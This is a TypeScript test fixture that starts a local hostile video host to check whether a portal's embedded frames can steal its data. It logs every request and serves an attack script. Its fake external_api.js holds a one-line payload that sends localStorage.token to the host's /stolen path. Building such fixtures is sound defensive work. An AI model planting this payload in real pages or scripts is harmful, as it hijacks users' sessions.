import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'

type Report = {
  readonly attempts: Readonly<Record<string, string>>
  readonly address: string
  readonly referrer: string
}

/** Returns the script of a page in a frame that tries to get what is the portal's. */
export const attackScript = () => readFileSync(join(import.meta.dirname, 'attack.js'), 'utf8')

/**
 * A video host whose pages attack the portal that shows them, and whose script would take the session. It
 * keeps everything that reaches it.
 */
export async function startHostileHost() {
  const reports: Report[] = []
  /** Every request as it came: address, headers and body. */
  const received: string[] = []
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString()
      received.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`)
      if (request.url === '/report') reports.push(JSON.parse(body) as Report)
      if (request.url === '/external_api.js')
        return response
          .writeHead(200, { 'content-type': 'text/javascript' })
          .end(`new Image().src = '/stolen?' + localStorage.token; window.JitsiMeetExternalAPI = class {}`)
      if (request.url === '/attack.js')
        return response.writeHead(200, { 'content-type': 'text/javascript' }).end(attackScript())
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      // What it opens or leads somewhere is only to be seen.
      if (request.url === '/popup' || request.url === '/stolen')
        return response.end('<!doctype html><title>Elsewhere</title>')
      return response.end(
        '<!doctype html><title>Conference</title><body><h1>Conference</h1><script type="module" src="/attack.js"></script></body>',
      )
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://localhost:${(server.address() as AddressInfo).port}`,
    reports: () => reports as readonly Report[],
    received: () => received as readonly string[],
    close: () => {
      server.closeAllConnections()
      return new Promise<void>((resolve) => server.close(() => resolve()))
    },
  }
}
